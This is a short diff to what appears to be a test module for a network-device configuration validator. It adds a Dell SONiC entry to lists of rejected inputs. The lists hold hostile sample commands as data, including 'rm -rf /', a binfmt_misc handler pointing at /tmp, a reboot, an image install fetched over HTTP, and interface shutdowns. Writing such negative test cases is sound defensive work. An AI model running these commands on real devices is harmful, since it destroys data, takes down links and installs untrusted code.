@@ -21,6 +21,7 @@ PARTS = (
     "frr/sysctl",
     "frr/qos",
     "srlinux/ours",
+    "dellsonic/ours",
 )
 """Every place of every product that an override may name. `qos` of FRR and all of SR Linux take nothing."""
 
@@ -91,6 +92,7 @@ PROGRAMS = {
         "fs.binfmt_misc.register = :x:M::x::/tmp/x:",
     ],
     "frr/qos": ["rm -rf /", "udevadm settle", "tc qdisc del dev swp1 root", "ethtool -s eth9 speed 100"],
+    "dellsonic/ours": ["reboot", "image install http://192.0.2.1/x.bin"],
     "srlinux/ours": ["system { event-handler { instance x { upython-script x.py } } }"],
 }
 HARM = {
@@ -174,6 +176,7 @@ HARM = {
         "net.ipv6.conf.all.disable_ipv6 = 1",
     ],
     "frr/qos": ["tc qdisc del dev {port} root"],
+    "dellsonic/ours": ["interface {port}\n shutdown"],
     "srlinux/ours": ["interface {port} {{ admin-state disable }}"],
 }
 TAKEN = {
